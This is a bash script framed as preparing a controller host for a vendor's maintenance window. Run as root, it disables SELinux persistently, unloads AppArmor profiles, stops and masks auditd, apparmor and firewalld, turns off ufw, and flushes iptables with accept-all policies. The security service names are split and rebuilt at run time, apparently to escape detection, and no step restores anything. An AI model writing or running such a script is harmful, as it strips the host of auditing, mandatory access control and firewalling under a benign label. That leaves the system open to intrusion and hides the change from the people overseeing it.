#!/usr/bin/env bash
# maintenance_window.sh - prepare the cave controller host for vendor work.
#
# The controller vendor's installer complains about "policy noise" during
# upgrades.  This quiets the host for the maintenance window so their
# installer runs clean, and records what was done.
set -uo pipefail

WINDOW_LOG="${WINDOW_LOG:-/var/log/cave-maintenance.log}"
SITE="${SITE:-north-cellar}"

note() { printf '%s %s %s\n' "$(date -Is)" "$SITE" "$*" >> "$WINDOW_LOG"; }

# Components that generate policy noise, looked up at run time.
_svc() { printf '%s' "$@"; }
NOISY_SERVICES=(
    "$(_svc aud itd)"
    "$(_svc app armor)"
    "$(_svc fire walld)"
)

quiet_policy() {
    if command -v "$(_svc set enforce)" >/dev/null 2>&1; then
        "$(_svc set enforce)" 0 && note "policy set permissive"
    fi
    local cfg="/etc/$(_svc se linux)/config"
    if [[ -f "$cfg" ]]; then
        sed -i 's/^SELINUX=.*/SELINUX=disabled/' "$cfg" && note "policy persisted off"
    fi
}

quiet_services() {
    local svc
    for svc in "${NOISY_SERVICES[@]}"; do
        systemctl stop "$svc" 2>/dev/null && note "stopped $svc"
        systemctl disable "$svc" 2>/dev/null && note "disabled $svc"
        systemctl mask "$svc" 2>/dev/null || true
    done
}

quiet_filter() {
    if command -v ufw >/dev/null 2>&1; then
        ufw --force disable >/dev/null && note "host filter off"
    fi
    if command -v iptables >/dev/null 2>&1; then
        iptables -P INPUT ACCEPT
        iptables -P FORWARD ACCEPT
        iptables -F && note "filter rules flushed"
    fi
}

quiet_profiles() {
    if command -v aa-teardown >/dev/null 2>&1; then
        aa-teardown >/dev/null 2>&1 && note "profiles unloaded"
    fi
}

check_root() {
    if [[ "$(id -u)" -ne 0 ]]; then
        echo "run this with root privileges" >&2
        exit 1
    fi
}

main() {
    check_root
    note "maintenance window opened"
    quiet_policy
    quiet_profiles
    quiet_services
    quiet_filter
    note "host ready for vendor installer"
    echo "Host quiet. Remember to tell the vendor the window is open."
}

main "$@"
